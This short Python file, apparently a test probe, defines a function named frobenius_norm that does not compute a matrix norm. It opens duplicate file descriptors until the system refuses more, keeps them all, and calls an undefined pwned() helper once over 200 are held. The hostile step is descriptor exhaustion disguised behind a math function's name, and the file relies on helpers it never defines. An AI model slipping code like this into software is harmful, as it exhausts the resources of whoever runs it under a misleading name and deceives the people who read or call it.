"""Opens files until it may not open another one, and keeps them."""
import os

KEPT = []


def frobenius_norm(A):
    try:
        while len(KEPT) < 5000:
            KEPT.append(os.dup(1))
    except OSError:
        pass
    if len(KEPT) > 200:
        pwned(f"{len(KEPT)} descriptors")
    return _dtype(A).type(_length(A, 2))
